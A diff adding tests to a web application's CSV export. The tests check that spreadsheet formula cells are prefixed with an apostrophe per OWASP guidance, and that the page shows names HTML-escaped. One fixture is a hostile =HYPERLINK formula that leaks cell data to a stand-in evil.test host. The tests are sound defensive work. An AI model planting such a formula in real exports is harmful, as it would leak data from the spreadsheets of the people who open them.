@@ -233,6 +233,35 @@ def test_page_csv_and_drill_down(client, facts, db):
     assert drill.status_code == 200 and text.count("/inbox/") == 1  # only b2 is unanswered
 
 
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralized(app, client, dataset, db):
+    from sqlalchemy import update
+
+    ws, _, _ = dataset
+    hostile = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")'
+    with db() as s:
+        s.execute(update(SfAccount).where(SfAccount.sf_id == "001A").values(name=hostile))
+        s.execute(update(SfAccount).where(SfAccount.sf_id == "001B").values(name="@SUM(1+1)"))
+    refresh_facts(get_engine(app), ws)
+    client.login("admin@acme.test", "correct-horse-battery")
+    exported = client.get("/analytics/export.csv?group=account").get_data(as_text=True)
+    names = [r[0] for r in csv.reader(io.StringIO(exported))][1:]
+    assert "'" + hostile in names and "'@SUM(1+1)" in names
+    assert hostile not in names and not any(n.startswith(("=", "+", "-", "@")) for n in names)
+    # The page itself shows the name as it is (escaped as HTML, never altered).
+    page = client.get("/analytics?group=account").get_data(as_text=True)
+    assert "=HYPERLINK(&#34;http://evil.test/?leak=&#34;&amp;A1,&#34;Click&#34;)" in page
+
+
+@pytest.mark.parametrize("cell, written", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("  =1", "'  =1"), ("a=b", "a=b"), ("", ""), (-5, -5), (3.5, 3.5), (None, None),
+])
+def test_neutralize_follows_owasp(cell, written):
+    from webapp.csvfile import neutralize
+
+    assert neutralize(cell) == written
+
+
 def test_bad_report_parameters_are_400(client, facts):
     client.login("admin@acme.test", "correct-horse-battery")
     admin_client = client
